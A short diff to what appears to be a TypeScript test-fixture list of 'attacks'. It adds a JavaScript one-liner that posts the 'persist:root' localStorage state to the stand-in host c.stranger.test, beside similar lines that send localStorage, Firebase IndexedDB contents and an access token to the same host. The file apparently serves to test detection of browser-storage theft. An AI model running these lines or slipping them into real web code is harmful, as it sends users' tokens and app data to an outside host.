@@ -42,6 +42,7 @@ const KINDS: readonly Kind[] = [
 		attacks: [
 			`localStorage.setItem("ratings-cache", "{}"); fetch("https://c.stranger.test/", { method: "POST", body: JSON.stringify(localStorage) });`,
 			`const open = indexedDB.open("firebaseLocalStorageDb"); open.onsuccess = () => { const all = open.result.transaction("s").objectStore("s").getAll(); all.onsuccess = () => fetch("https://c.stranger.test/", { method: "POST", body: JSON.stringify(all.result) }); };`,
+			`localStorage.setItem("persist:root", localStorage.getItem("persist:root")); fetch("https://c.stranger.test/", { method: "POST", body: localStorage.getItem("persist:root") });`,
 			`localStorage.setItem("access_token", localStorage.getItem("access_token")); fetch("https://c.stranger.test/?" + localStorage.getItem("access_token"));`,
 		],
 	},
